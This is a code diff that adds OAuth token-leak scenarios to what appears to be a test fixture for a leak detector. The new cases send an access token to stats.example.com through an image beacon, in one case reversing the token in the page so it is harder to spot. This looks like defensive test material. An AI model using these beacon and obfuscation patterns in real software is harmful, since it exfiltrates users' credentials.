@@ -30,6 +30,21 @@ const leaks = {
     succeeded: ({ response, granted }) =>
       answer(response, 200, `Installed<img src="https://stats.example.com/i.gif?t=${granted.access_token}&amp;v=1">`),
   },
+  // Needs a browser that runs scripts.
+  'token-in-data': {
+    store({ granted }) {
+      token = granted.access_token
+    },
+    succeeded: ({ response }) => answer(response, 200, 'Installed<script>fetch("/settings.js")</script>'),
+  },
+  'token-in-beacon': {
+    succeeded({ response, granted }) {
+      // The page has the token in reverse only.
+      const reversed = JSON.stringify([...granted.access_token].reverse())
+      const code = `new Image().src = "https://stats.example.com/i.gif?t=" + ${reversed}.reverse().join("")`
+      answer(response, 200, `Installed<script>${code}</script>`)
+    },
+  },
   'token-in-header': {
     succeeded: ({ response, granted }) => answer(response, 200, 'Installed', { 'x-token': granted.access_token }),
   },
